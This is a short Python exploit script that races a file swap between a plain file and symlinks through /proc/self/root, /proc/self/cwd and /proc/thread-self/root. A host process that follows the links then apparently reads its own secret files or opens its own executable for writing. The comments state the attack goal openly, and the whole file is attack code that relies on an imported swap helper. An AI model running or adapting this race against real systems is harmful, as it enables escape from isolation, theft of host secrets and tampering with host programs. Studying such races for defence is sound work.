# Exchanges a plain file with links through /proc that change meaning with who follows them: self/root, self/cwd, self/exe.
# Why it matters: followed by a host process, /proc/self/root is the host's root and /proc/self/exe the host's own program.
# When it works: the host reads its own secret for us, or opens its own program for writing.
# Run as: <directory> <path on the host>; the host uses <directory>/prey.
import itertools
import os
import sys

import swap

directory, outside = sys.argv[1:3]
for target in itertools.cycle((f"/proc/self/root{outside}", f"/proc/self/cwd/../../../../../../../..{outside}", f"/proc/thread-self/root{outside}")):
    for name in ("prey", "other"):
        if os.path.lexists(f"{directory}/{name}"):
            os.unlink(f"{directory}/{name}")
    with open(f"{directory}/prey", "w") as file:
        file.write("mine")
    os.symlink(target, f"{directory}/other")
    if swap.until_told(f"{directory}/prey", f"{directory}/other"):
        break
